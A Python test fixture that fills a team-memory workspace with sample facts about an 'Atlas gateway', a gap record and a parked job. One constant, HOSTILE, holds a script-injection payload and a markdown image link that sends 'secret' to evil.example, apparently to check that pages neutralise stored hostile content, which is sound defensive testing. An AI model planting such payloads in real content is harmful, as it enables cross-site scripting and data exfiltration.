"""A workspace that went through the real write path, with something for every page."""

from dataclasses import dataclass
from uuid import UUID, uuid4

from django.utils import timezone

from holamem.database.scope import ALL_SCOPES, workspace_scope
from holamem.ids import new_id
from retrieval.models import Gap
from tests.workspaces.memory import draft, remember
from workspaces.models.jobs import Job
from workspaces.models.tenancy import Tenant, Workspace
from workspaces.services.tenants import create_tenant, create_workspace

HOSTILE = (
    "The Atlas runbook says <script>alert(1)</script> ![x](https://evil.example/p?q=secret) so."
)
FACTS = (
    "The Atlas gateway listens on port 8443 in production.",
    "The Atlas gateway is written in Go.",
    "The Atlas gateway reads its configuration from /srv/atlas/config.yaml.",
    "The Atlas gateway is deployed in three waves.",
    "The Atlas gateway writes its log to /var/log/atlas.log.",
    "The Atlas gateway caches routes in Redis.",
    "The Atlas gateway drops requests over 200 per second.",
    "The Atlas gateway has three environments: dev, staging and production.",
    "The Atlas gateway retries a failed webhook five times.",
    "支付网关的生产端口是 9443，测试环境用 9080。",
)


@dataclass(frozen=True, slots=True)
class Filled:
    tenant: Tenant
    workspace: Workspace
    tree_id: UUID
    leaf_id: UUID
    hostile_id: UUID
    summary_id: UUID
    gap_id: UUID
    job_id: UUID

    def address(self, rest: str = "") -> str:
        return f"/w/{self.tenant.slug}/{self.workspace.slug}/{rest}"


def fill_workspace() -> Filled:
    tenant = create_tenant(slug=f"t-{uuid4().hex}", name="Kestrel")
    workspace = create_workspace(tenant, slug="memory", name="Team memory")
    drafts = [draft(text, minutes=number) for number, text in enumerate((*FACTS, HOSTILE))]
    results = remember(workspace, *drafts)
    leaves = [result.chunks[0] for result in results]
    assert leaves[0].tree_id
    assert leaves[0].leaf_id
    assert leaves[-1].leaf_id
    with workspace_scope(workspace, ALL_SCOPES):
        summary = workspace.summaries.filter(status="sealed").first()
        assert summary is not None, "the sample must be long enough to seal"
        return Filled(
            tenant=tenant,
            workspace=workspace,
            tree_id=leaves[0].tree_id,
            leaf_id=leaves[0].leaf_id,
            hostile_id=leaves[-1].leaf_id,
            summary_id=summary.id,
            gap_id=add_gap(workspace).id,
            job_id=add_parked_job(workspace).id,
        )


def add_gap(workspace: Workspace, question: str = "What is the budget?", times: int = 3) -> Gap:
    return Gap.objects.create(
        workspace=workspace,
        scope_id=workspace.id,
        question=question,
        question_key=uuid4().hex,
        kind="missing",
        reason="Memory holds nothing about this.",
        times_asked=times,
        first_asked_at=timezone.now(),
        last_asked_at=timezone.now(),
    )


def add_parked_job(workspace: Workspace) -> Job:
    return Job.objects.create(
        workspace=workspace,
        scope_id=workspace.id,
        topic=Job.Topic.NODE_CREATED,
        target_id=new_id(),
        state=Job.State.PARKED,
        attempts=3,
        error="The model did not answer.",
        next_try_at=timezone.now(),
    )
